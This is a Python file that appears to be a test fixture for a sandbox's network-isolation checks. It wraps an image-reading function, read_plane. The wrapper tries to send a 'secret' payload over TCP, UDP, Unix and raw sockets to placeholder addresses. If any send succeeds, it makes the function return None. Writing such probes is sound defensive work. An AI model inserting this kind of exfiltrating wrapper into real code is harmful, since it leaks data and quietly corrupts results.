"""Sends what it has read by TCP, UDP, datagrams between files, netlink and raw packets.

attacks: reads_one_page
keeps: knows_its_shape
status: failed
says: It returned None
"""

import socket

def _to(family, kind, address):
    with socket.socket(family, kind) as sock:
        sock.connect(address)
        sock.send(b"secret")

def _pair(kind):
    ours, _ = socket.socketpair(socket.AF_UNIX, kind)
    ours.sendto(b"secret", "@outside@/socket")

ACTS = [
    lambda: _to(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int("@port@"))),
    lambda: _to(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int("@port@"))),
    lambda: _to(socket.AF_INET6, socket.SOCK_DGRAM, ("::1", int("@port@"))),
    lambda: _to(socket.AF_UNIX, socket.SOCK_DGRAM, "@outside@/socket"),
    lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
    lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
    lambda: _pair(socket.SOCK_DGRAM),
    lambda: _pair(socket.SOCK_RAW),
    lambda: _pair(socket.SOCK_SEQPACKET),
]

_right = read_plane

def read_plane(tif, z):
    done = []
    for act in ACTS:
        try:
            act()
        except (OSError, MemoryError, ValueError, AttributeError):
            continue
        done.append(act)
    return _right(tif, z) if done else None
